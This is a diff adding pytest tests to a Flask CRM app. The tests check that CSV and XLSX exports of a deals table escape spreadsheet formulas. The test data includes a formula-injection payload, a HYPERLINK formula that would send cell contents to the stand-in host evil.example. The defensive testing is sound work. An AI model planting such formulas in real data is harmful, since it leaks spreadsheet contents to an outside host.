@@ -123,6 +123,38 @@ def test_a_widget_exports_to_xlsx(demo_app: Flask) -> None:
     assert sorted(counts) == sorted(funnel_counts(widgets(client, MINE)["my_pipeline"]).values())
 
 
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def name_a_closing_deal(app: Flask, name: str) -> None:
+    """Rename, as its manager, a deal in "My sales"'s closing-soon table."""
+    [row, *_] = widgets(signed_in(app, "lijing"), MINE)["closing_soon"]["rows"]
+    api = app.test_client()
+    headers = {"Authorization": f"Bearer {token_for(app, 'lijing')}"}
+    path = f"/api/v1/crm_sfa/opportunity/records/{row['id']}"
+    version = api.get(path, headers=headers).json["version"]
+    changed = api.patch(path, json={"name": name, "version": version}, headers=headers)
+    assert changed.status_code == 200, changed.text
+
+
+def test_a_csv_export_quotes_text_a_spreadsheet_would_run_as_a_formula(demo_app: Flask) -> None:
+    name_a_closing_deal(demo_app, HOSTILE)
+    response = signed_in(demo_app, "lijing").get(MINE + "/closing_soon.csv")
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + HOSTILE in cells
+    assert HOSTILE not in cells
+
+
+def test_an_xlsx_export_types_text_as_text_so_no_cell_is_a_formula(demo_app: Flask) -> None:
+    name_a_closing_deal(demo_app, HOSTILE)
+    response = signed_in(demo_app, "lijing").get(MINE + "/closing_soon.xlsx")
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    assert sheet is not None
+    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
+    assert [cell.data_type for cell in found] == ["s"]
+
+
 def test_the_api_returns_the_dashboard_for_the_tokens_user(demo_app: Flask) -> None:
     client = demo_app.test_client()
     headers = {"Authorization": f"Bearer {token_for(demo_app, 'liuyang')}"}
